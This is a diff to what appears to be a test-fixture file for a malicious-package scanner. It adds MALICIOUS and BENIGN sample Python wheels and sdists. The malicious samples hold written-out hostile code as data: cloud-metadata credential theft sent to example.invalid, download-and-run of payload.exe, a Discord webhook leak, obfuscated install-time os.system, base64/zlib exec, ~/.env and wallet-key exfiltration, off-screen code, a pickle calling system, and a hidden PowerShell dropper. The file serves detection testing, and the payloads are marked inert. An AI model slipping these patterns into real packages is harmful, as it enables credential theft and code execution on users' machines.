@@ -20,7 +20,7 @@ from pathlib import Path
 def wheel(
     name: str,
     version: str,
-    files: dict[str, str],
+    files: dict[str, str | bytes],
     *,
     summary: str = "A test package",
     record: bool = True,
@@ -28,7 +28,7 @@ def wheel(
 ) -> bytes:
     """A wheel with METADATA, WHEEL and a correct RECORD (unless told otherwise)."""
     info = f"{name}-{version}.dist-info"
-    contents = {path: text.encode() for path, text in files.items()}
+    contents = {path: t if isinstance(t, bytes) else t.encode() for path, t in files.items()}
     contents[f"{info}/METADATA"] = (
         f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
         + (f"Summary: {summary}\n" if summary else "")
@@ -103,13 +103,21 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
         wheel(
             "meta",
             "0.1",
-            {"meta/__init__.py": "URL = 'http://169.254.169.254/latest/meta-data/'\n"},
+            {
+                "meta/__init__.py": "import urllib.request\nURL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
+                "creds = urllib.request.urlopen(URL).read()\nurllib.request.urlopen('http://example.invalid/c', data=creds)\n"
+            },
         ),
     ),
     "executable-download": (
         "fetch-0.1-py3-none-any.whl",
         wheel(
-            "fetch", "0.1", {"fetch/__init__.py": "URL = 'https://example.invalid/payload.exe'\n"}
+            "fetch",
+            "0.1",
+            {
+                "fetch/__init__.py": "import subprocess, urllib.request\nURL = 'https://example.invalid/payload.exe'\n"
+                "urllib.request.urlretrieve(URL, 'p.exe')\nsubprocess.Popen('p.exe')\n"
+            },
         ),
     ),
     "pth-exec": (
@@ -151,7 +159,99 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
         wheel(
             "hookshot",
             "0.1",
-            {"hookshot/__init__.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"},
+            {
+                "hookshot/__init__.py": "import os, requests\nURL = 'https://discord.com/api/webhooks/1/x'\n"
+                "requests.post(URL, json={'content': os.getlogin()})\n"
+            },
+        ),
+    ),
+    # Issue 16: behaviour over tokens. Each payload is inert (127.0.0.1, example.invalid, `true`).
+    "hidden-process": (
+        "chrmap-0.1.tar.gz",
+        sdist(
+            "chrmap",
+            "0.1",
+            {
+                "setup.py": "import sys\nfrom distutils.core import setup\n"
+                "c = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])\n"
+                "if sys.argv[1] in [''.join(map(c, [105, 110, 115, 116, 97, 108, 108]))]:\n"
+                "    getattr(__import__(''.join(map(c, [111, 115]))), 'sys' + 'tem')('true')\n"
+                "setup(name='chrmap')\n",
+                "chrmap/__init__.py": "",
+            },
+        ),
+    ),
+    "obfuscated-exec:lambda": (
+        "lam-0.1-py3-none-any.whl",
+        wheel(
+            "lam",
+            "0.1",
+            {
+                "lam/__init__.py": "d = lambda s: getattr(__import__('bas' + 'e64'), 'b64decode')(s)\n"
+                f"z = __import__('zlib')\nexec(z.decompress(d('{base64.b64encode(__import__('zlib').compress(b'x = 1')).decode()}')))\n"
+            },
+        ),
+    ),
+    "exfiltration": (
+        "envy-0.1-py3-none-any.whl",
+        wheel(
+            "envy",
+            "0.1",
+            {
+                "envy/__init__.py": "import os, base64, requests\n\n\ndef report():\n"
+                "    secret = open(os.path.expanduser('~/.env')).read() + os.environ.get('WALLET_KEY', '')\n"
+                f"    host = bytes.fromhex('{b'http://127.0.0.1:9/c'.hex()}').decode()\n"
+                "    requests.post(host, data={'k': secret})\n"
+            },
+        ),
+    ),
+    "off-screen-code": (
+        "wide-0.1-py3-none-any.whl",
+        wheel(
+            "wide",
+            "0.1",
+            {"wide/__init__.py": "X = 1" + " " * 300 + ";__import__('os').getcwd()\n"},
+        ),
+    ),
+    "pickle-exec": (
+        "model-0.1-py3-none-any.whl",
+        wheel(
+            "model",
+            "0.1",
+            {
+                "model/__init__.py": "",
+                "model/weights.pkl": b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03.",
+            },
+        ),
+    ),
+    "empty-package": (
+        "placeholder-0.1.tar.gz",
+        sdist(
+            "placeholder",
+            "0.1",
+            {"setup.py": "from setuptools import setup\nsetup(name='placeholder')\n"},
+        ),
+    ),
+    "dropper": (
+        "esq-0.1.tar.gz",
+        sdist(
+            "esq",
+            "0.1",
+            {
+                "setup.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand dAByAHUAZQA=', shell=True)\n",
+                "esq/__init__.py": "",
+            },
+        ),
+    ),
+    "native-indicator": (
+        "nat-0.1-cp311-cp311-linux_x86_64.whl",
+        wheel(
+            "nat",
+            "0.1",
+            {
+                "nat/__init__.py": "",
+                "nat/_core.so": b"\x7fELF\x00\x00https://discord.com/api/webhooks/1234/inert\x00",
+            },
         ),
     ),
 }
@@ -162,6 +262,31 @@ BENIGN: dict[str, bytes] = {
         {
             "tidy/__init__.py": '"""Tidy tables."""\n\n\ndef tidy(rows):\n    return sorted(rows)\n',
             "tidy/net.py": "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n",
+        },
+    ),
+    # Issue 16, wrongful holds: a compiler check in setup.py, a metadata client in a cloud SDK,
+    # an IP literal in tests, a hyphenated sdist name, a compiled extension.
+    "cloudsdk-1.0.tar.gz": sdist(
+        "cloudsdk",
+        "1.0",
+        {
+            "setup.py": "import subprocess\nfrom setuptools import setup\n"
+            "flags = subprocess.check_output(['pkg-config', '--cflags', 'libffi']).split()\n"
+            "subprocess.call(['cc', '-c', 'check.c'])\nsetup(name='cloudsdk', version='1.0')\n",
+            "cloudsdk/__init__.py": "import urllib.request\nMETADATA = 'http://169.254.169.254/latest/api/token'\n\n\n"
+            "def token():\n    return urllib.request.urlopen(METADATA).read()\n",
+            "tests/test_proxy.py": "import urllib.request\nPROXY = 'http://10.0.0.1:3128'\nurllib.request.urlopen(PROXY)\n",
+        },
+    ),
+    "python-dateish-2.8.2.tar.gz": sdist(
+        "python-dateish", "2.8.2", {"dateish/__init__.py": "def parse(s):\n    return s\n"}
+    ),
+    "fastext-1.0-cp311-cp311-linux_x86_64.whl": wheel(
+        "fastext",
+        "1.0",
+        {
+            "fastext/__init__.py": "from ._core import *\n",
+            "fastext/_core.so": b"\x7fELF\x02\x01 GCC: (GNU) 12.2 _PyInit__core",
         },
     ),
     "plain-2.1.tar.gz": sdist(
